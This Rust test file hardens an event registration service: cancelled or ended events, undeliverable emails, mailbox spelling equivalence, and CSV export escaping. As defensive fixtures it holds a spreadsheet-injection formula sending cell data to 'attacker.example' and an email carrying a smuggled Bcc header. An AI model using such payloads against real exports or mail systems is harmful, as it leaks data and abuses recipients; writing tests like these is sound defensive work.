//! Faults other registration systems shipped, each as a kind, in both modes: an action on a
//! registration respects the state of the event above it (cancelled, unpublished, over);
//! an address is a deliverable mailbox wherever one enters, and every spelling of one
//! mailbox is one identity; what reaches an export cannot run in a spreadsheet.

use std::sync::Arc;

use evreg::domain::{EventId, RegistrationId, RegistrationStatus};
use evreg::AppContext;
use evreg_tests::api::{
    create_event, deliver_webhook, new_admin, new_organizer, Api, ApiRequest, LambdaApi, Reply,
};
use evreg_tests::apps::TestApp;
use evreg_tests::clock::LaterClock;
use evreg_tests::fixtures::unique_email;
use http::Method;
use serde_json::json;
use time::format_description::well_known::Rfc3339;
use time::OffsetDateTime;

evreg_tests::both_modes!("hardening":
    events_cancel => [
        a_cancelled_events_registrations_are_frozen,
        a_cancelled_events_holds_close_and_their_payments_come_back,
    ],
    checkins_create => [an_event_that_is_over_takes_no_registrations_and_admits_nobody],
    registrations_create => [
        undeliverable_addresses_are_refused_wherever_an_address_enters,
        one_mailbox_is_one_identity_however_it_is_spelled,
    ],
    events_registrations => [exported_cells_cannot_run_and_phones_have_their_shape],
);

async fn register(api: &dyn Api, event_id: EventId, email: &str) -> Reply {
    api.post(
        &format!("/events/{event_id}/registrations"),
        None,
        json!({ "email": email, "full_name": "Ann Lee" }),
    )
    .await
}

fn id_of(reply: &Reply) -> RegistrationId {
    reply.body["id"]
        .as_str()
        .and_then(|id| id.parse().ok())
        .unwrap_or_else(|| panic!("a registration: {:?}", reply.body))
}

fn token_of(reply: &Reply) -> String {
    reply.body["manage_token"]
        .as_str()
        .expect("a manage token")
        .to_owned()
}

async fn status_of(ctx: &AppContext, id: RegistrationId) -> RegistrationStatus {
    ctx.registrations
        .registration(id)
        .await
        .expect("the store")
        .expect("the registration")
        .status
}

async fn cancel_event(app: &TestApp, event_id: EventId) {
    let (_, admin) = new_admin(&app.ctx).await;
    let cancelled = app
        .api
        .call(
            Method::DELETE,
            &format!("/events/{event_id}"),
            Some(&admin),
            None,
        )
        .await;
    assert_eq!(cancelled.status, 200, "{:?}", cancelled.body);
}

fn scan(ticket: &str, bearer: &str) -> ApiRequest {
    ApiRequest::new(Method::POST, "/checkins")
        .bearer(bearer)
        .json(json!({ "ticket": ticket }))
}

/// A cancelled event admits nobody at the door, takes no edits or cancellations of its
/// registrations and promotes nobody from its waitlist (that no ticket is issued after the
/// cancellation is the stores' conformance case: here the workers race the request).
async fn a_cancelled_events_registrations_are_frozen(app: TestApp) {
    let api = app.api.as_ref();
    let owner = new_organizer(api).await;
    let event_id = create_event(
        api,
        &owner,
        json!({ "max_capacity": 2, "waitlist_enabled": true }),
    )
    .await;
    let seated = register(api, event_id, &unique_email("seated")).await;
    app.settle().await;
    register(api, event_id, &unique_email("second")).await;
    let waiting = register(api, event_id, &unique_email("waiting")).await;
    assert_eq!(waiting.body["status"], "WAITLISTED");
    let ticket = app
        .ctx
        .registrations
        .ticket(id_of(&seated))
        .await
        .unwrap()
        .expect("issued before the cancellation");

    cancel_event(&app, event_id).await;
    app.settle().await;

    let at_the_door = api.send(scan(&ticket, &owner)).await;
    assert_eq!(
        (at_the_door.status, at_the_door.code()),
        (409, "event_closed")
    );
    let (id, token) = (id_of(&seated), token_of(&seated));
    let edit = ApiRequest::new(Method::PUT, format!("/registrations/{id}"))
        .header("x-manage-token", token.as_str())
        .json(json!({ "full_name": "Ann Other" }));
    let cancel = ApiRequest::new(Method::DELETE, format!("/registrations/{id}"))
        .header("x-manage-token", token.as_str());
    for request in [edit, cancel] {
        let reply = api.send(request).await;
        assert_eq!((reply.status, reply.code()), (409, "event_closed"));
    }
    assert_eq!(
        status_of(&app.ctx, id).await,
        RegistrationStatus::Confirmed,
        "unchanged"
    );
    assert_eq!(
        status_of(&app.ctx, id_of(&waiting)).await,
        RegistrationStatus::Waitlisted,
        "nobody promoted"
    );
    assert_eq!(app.dead_letters().await, 0);
}

/// A seat held for payment when its event is cancelled: the checkout is closed, and a
/// payment that still comes is refunded, never confirmed.
async fn a_cancelled_events_holds_close_and_their_payments_come_back(app: TestApp) {
    let api = app.api.as_ref();
    let owner = new_organizer(api).await;
    let event_id = create_event(
        api,
        &owner,
        json!({ "max_capacity": 5, "price_cents": 2500, "currency": "EUR" }),
    )
    .await;
    let held = register(api, event_id, &unique_email("held")).await;
    assert_eq!(held.body["status"], "PENDING_PAYMENT");
    let id = id_of(&held);
    let checkout_id = app
        .ctx
        .registrations
        .registration(id)
        .await
        .unwrap()
        .and_then(|r| r.hold)
        .and_then(|hold| hold.checkout_id)
        .expect("a checkout");
    // Paid at the provider a moment before; the webhook arrives after the cancellation.
    let webhook = app.pay(id, OffsetDateTime::now_utc()).await;

    cancel_event(&app, event_id).await;
    app.settle().await;
    let late = deliver_webhook(api, &webhook).await;
    assert_eq!(
        (late.status, &late.body["outcome"]),
        (200, &json!("refunded")),
        "{:?}",
        late.body
    );
    app.settle().await;
    assert_eq!(
        status_of(&app.ctx, id).await,
        RegistrationStatus::PendingPayment,
        "never confirmed"
    );
    assert_eq!(app.refunds().len(), 1, "refunded once");

    // A hold whose attendee had not paid yet: its checkout is closed.
    let other = create_event(
        api,
        &owner,
        json!({ "max_capacity": 5, "price_cents": 2500, "currency": "EUR" }),
    )
    .await;
    let unpaid = register(api, other, &unique_email("unpaid")).await;
    let unpaid_checkout = app
        .ctx
        .registrations
        .registration(id_of(&unpaid))
        .await
        .unwrap()
        .and_then(|r| r.hold)
        .and_then(|hold| hold.checkout_id)
        .expect("a checkout");
    assert!(app.checkout_open(&unpaid_checkout));
    cancel_event(&app, other).await;
    app.settle().await;
    assert!(!app.checkout_open(&unpaid_checkout));
    assert!(!app.checkout_open(&checkout_id));
    assert_eq!(app.dead_letters().await, 0);
}

/// Once an event is over (its end, or a day after its start), it takes no registration and
/// its door admits nobody — the handlers decide on the event they read, at the clock's now.
async fn an_event_that_is_over_takes_no_registrations_and_admits_nobody(app: TestApp) {
    let api = app.api.as_ref();
    let owner = new_organizer(api).await;
    let starts = OffsetDateTime::now_utc() + time::Duration::days(2);
    let event_id = create_event(
        api,
        &owner,
        json!({ "max_capacity": 5, "date": starts.format(&Rfc3339).unwrap() }),
    )
    .await;
    let seated = register(api, event_id, &unique_email("seated")).await;
    app.settle().await;
    let ticket = app
        .ctx
        .registrations
        .ticket(id_of(&seated))
        .await
        .unwrap()
        .expect("issued");

    // Three days on: a day after the start has passed.
    let later = LambdaApi {
        ctx: Arc::new(AppContext {
            clock: Arc::new(LaterClock(time::Duration::days(3))),
            ..(*app.ctx).clone()
        }),
    };
    let too_late = register(&later, event_id, &unique_email("too-late")).await;
    assert_eq!((too_late.status, too_late.code()), (409, "event_ended"));
    let at_the_door = later.send(scan(&ticket, &owner)).await;
    assert_eq!(
        (at_the_door.status, at_the_door.code()),
        (409, "event_ended")
    );
    // On the day itself, the door opens.
    let on_the_day = LambdaApi {
        ctx: Arc::new(AppContext {
            clock: Arc::new(LaterClock(time::Duration::days(2))),
            ..(*app.ctx).clone()
        }),
    };
    assert_eq!(on_the_day.send(scan(&ticket, &owner)).await.status, 200);
}

/// Addresses no mail can reach, each refused by another rule of mailbox syntax (RFC 5322's
/// `addr-spec`, what SES delivers to): the kind, not only the reported `<`, `,` and `;`.
const UNDELIVERABLE: &[&str] = &[
    "ann<x>@example.org",
    "ann,bob@example.org",
    "ann;bob@example.org",
    "Ann Lee <ann@example.org>",
    "\"ann,bob\"@example.org",
    "ann@example.org, bob@example.org",
    "ann@example.org\r\nBcc: eve@example.org",
    "ann@localhost",
    "ann@[192.0.2.1]",
    "ann@exa mple.org",
    "ann@-example.org",
    "ann..lee@example.org",
    "@example.org",
    "zoë@example.org",
];

/// Sign-up, accounts made by an ADMIN, registrations, attendee edits and password resets
/// refuse each with a 422 naming `email` and store nothing; login answers as for an
/// unknown account (401).
async fn undeliverable_addresses_are_refused_wherever_an_address_enters(app: TestApp) {
    let api = app.api.as_ref();
    let owner = new_organizer(api).await;
    let (_, admin) = new_admin(&app.ctx).await;
    let event_id = create_event(api, &owner, json!({ "max_capacity": 50 })).await;
    let seated = register(api, event_id, &unique_email("seated")).await;
    let (id, token) = (id_of(&seated), token_of(&seated));
    let password = "correct horse battery";
    for address in UNDELIVERABLE {
        let refusals = [
            register(api, event_id, address).await,
            api.post(
                "/auth/signup",
                None,
                json!({ "email": address, "password": password }),
            )
            .await,
            api.post(
                "/users",
                Some(&admin),
                json!({ "email": address, "password": password, "role": "STAFF" }),
            )
            .await,
            api.send(
                ApiRequest::new(Method::PUT, format!("/registrations/{id}"))
                    .header("x-manage-token", token.as_str())
                    .json(json!({ "full_name": "Ann Lee", "email": address })),
            )
            .await,
            api.post("/auth/password-reset", None, json!({ "email": address }))
                .await,
        ];
        for reply in refusals {
            assert_eq!(reply.status, 422, "{address:?}: {:?}", reply.body);
            assert_eq!(reply.body["errors"][0]["field"], "email", "{address:?}");
        }
        let login = api
            .post(
                "/auth/login",
                None,
                json!({ "email": address, "password": password }),
            )
            .await;
        assert_eq!(login.status, 401, "{address:?}: {:?}", login.body);
    }
    let listed = api
        .get(&format!("/events/{event_id}/registrations"), Some(&owner))
        .await;
    assert_eq!(listed.body["items"].as_array().map(Vec::len), Some(1));
    app.settle().await;
    assert_eq!(app.dead_letters().await, 0, "no mail was attempted");
}

/// One mailbox written as a precomposed `Ä`, as `A` + combining diaeresis, in Punycode, in
/// capitals or in full-width letters is one address: one registration per event, one
/// account, and its login and password reset find that account from any spelling.
async fn one_mailbox_is_one_identity_however_it_is_spelled(app: TestApp) {
    let api = app.api.as_ref();
    let owner = new_organizer(api).await;
    let event_id = create_event(api, &owner, json!({ "max_capacity": 50 })).await;
    let local = format!("zoe-{}", uuid::Uuid::new_v4().simple());
    let canonical = format!("{local}@xn--exmple-cua.org");
    let spellings = [
        format!("{local}@ex\u{e4}mple.org"),
        format!("{local}@exa\u{308}mple.org"),
        format!(" {}@EX\u{c4}MPLE.ORG ", local.to_uppercase()),
        format!("{local}@xn--exmple-cua.org"),
        format!("{local}@\u{ff45}x\u{e4}mple.org"),
    ];
    let first = register(api, event_id, &spellings[0]).await;
    assert_eq!(first.status, 201, "{:?}", first.body);
    assert_eq!(first.body["email"], json!(canonical));
    for spelling in &spellings[1..] {
        let again = register(api, event_id, spelling).await;
        assert_eq!(
            (again.status, again.code()),
            (409, "duplicate_registration"),
            "{spelling:?}: {:?}",
            again.body
        );
    }

    let password = "correct horse battery";
    let signup = api
        .post(
            "/auth/signup",
            None,
            json!({ "email": spellings[1], "password": password }),
        )
        .await;
    assert_eq!(signup.status, 201, "{:?}", signup.body);
    assert_eq!(signup.body["email"], json!(canonical));
    for spelling in &spellings {
        let twin = api
            .post(
                "/auth/signup",
                None,
                json!({ "email": spelling, "password": password }),
            )
            .await;
        assert_eq!(twin.status, 409, "{spelling:?}: {:?}", twin.body);
        let login = api
            .post(
                "/auth/login",
                None,
                json!({ "email": spelling, "password": password }),
            )
            .await;
        assert_eq!(login.status, 200, "{spelling:?}: {:?}", login.body);
    }
    let reset = api
        .post(
            "/auth/password-reset",
            None,
            json!({ "email": spellings[2] }),
        )
        .await;
    assert_eq!(reset.status, 202);
    app.settle().await;
    assert_eq!(
        app.mail_to(&canonical).await.len(),
        2,
        "confirmation and reset"
    );
}

/// `+1+1` is no phone number; a valid one is kept in its international form; and every
/// cell of the CSV export that a spreadsheet would read as a formula — whichever column,
/// whatever the attendee typed — starts with `'` (OWASP's CSV Injection advice).
async fn exported_cells_cannot_run_and_phones_have_their_shape(app: TestApp) {
    let api = app.api.as_ref();
    let owner = new_organizer(api).await;
    let event_id = create_event(api, &owner, json!({ "max_capacity": 50 })).await;
    let path = format!("/events/{event_id}/registrations");
    for phone in [
        "+1+1",
        "=1+1",
        "+1",
        "12345",
        "+44 20 7946 095",
        "tel:+442079460958",
    ] {
        let reply = api
            .post(
                &path,
                None,
                json!({ "email": unique_email("ann"), "full_name": "Ann Lee", "phone": phone }),
            )
            .await;
        assert_eq!(reply.status, 422, "{phone:?}: {:?}", reply.body);
        assert_eq!(reply.body["errors"][0]["field"], "phone");
    }
    let formula = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")";
    let names = [
        formula,
        "+SUM(1+1)",
        "-2+3",
        "@cmd",
        " =1+1",
        "\u{ff1d}1+1",
        "Ann Lee",
    ];
    for name in names {
        let reply = api
            .post(
                &path,
                None,
                json!({
                    "email": format!("-{}", unique_email("ann")),
                    "full_name": name,
                    "phone": "+44 (0)20-7946-0958",
                }),
            )
            .await;
        assert_eq!(reply.status, 201, "{name:?}: {:?}", reply.body);
        assert_eq!(reply.body["phone"], "+44 20 7946 0958");
    }
    let edited = register(api, event_id, &unique_email("edited")).await;
    let edit = ApiRequest::new(Method::PUT, format!("/registrations/{}", id_of(&edited)))
        .header("x-manage-token", token_of(&edited).as_str())
        .json(json!({ "full_name": "Ann Lee", "phone": "+1+1" }));
    let refused = api.send(edit).await;
    assert_eq!(
        (refused.status, &refused.body["errors"][0]["field"]),
        (422, &json!("phone"))
    );

    let export = api
        .send(
            ApiRequest::new(Method::GET, path.as_str())
                .bearer(&owner)
                .header("accept", "text/csv"),
        )
        .await;
    assert_eq!(export.status, 200);
    let mut rows = csv::Reader::from_reader(export.bytes.as_slice());
    let mut names_seen = Vec::new();
    for row in rows.records() {
        let row = row.expect("a CSV row");
        for cell in &row {
            let first = cell.trim_start_matches(' ').chars().next();
            assert!(
                !matches!(
                    first,
                    Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\u{ff1d}')
                ),
                "a live formula in {cell:?}"
            );
        }
        names_seen.push(row[2].to_owned());
    }
    assert!(
        names_seen.contains(&format!("'{formula}")),
        "{names_seen:?}"
    );
    assert!(names_seen.contains(&"Ann Lee".to_owned()));
}
